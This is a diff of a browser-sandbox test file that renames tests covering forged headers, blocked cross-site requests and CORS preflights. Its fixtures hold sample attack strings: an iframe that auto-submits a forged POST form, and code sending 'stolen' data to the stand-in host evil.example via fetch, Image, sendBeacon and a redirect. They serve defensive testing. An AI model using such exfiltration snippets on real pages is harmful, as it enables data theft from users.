@@ -180,7 +180,7 @@ describe('Headers a page cannot forge', () => {
       '<iframe src="data:text/html,<form method=post action=https://app.test/saw></form><script>document.forms[0].submit()</script>"></iframe>',
       { origin: 'null' },
     ],
-  ])('%s', (_name, html, expected) => {
+  ])('are set by the browser for %s', (_name, html, expected) => {
     const { browser, seen } = open();
     browser.visitAttacker(html);
     const headers = seen()[0]?.headers ?? {};
@@ -224,7 +224,7 @@ describe('A request across sites', () => {
     ]);
   });
 
-  it('to a foreign host is an event and reaches nobody', () => {
+  it('to a foreign host is an event and is not sent', () => {
     const { browser } = open();
     const code =
       'fetch("https://evil.example/c?" + 1, { method: "POST", body: "stolen" }); new Image().src = "https://evil.example/i"; navigator.sendBeacon("https://evil.example/b", "x"); location = "https://evil.example/l"';
@@ -281,7 +281,7 @@ describe('CORS', () => {
     ],
     ['null is an origin like another', read('origin=null'), 'refused', ['GET']],
     [
-      'JSON is asked for first, and not sent',
+      'JSON needs a preflight first, and is not sent',
       read(
         'origin=https://evil.example',
         '{ method: "POST", headers: { "content-type": "application/json" }, body: "{}" }',
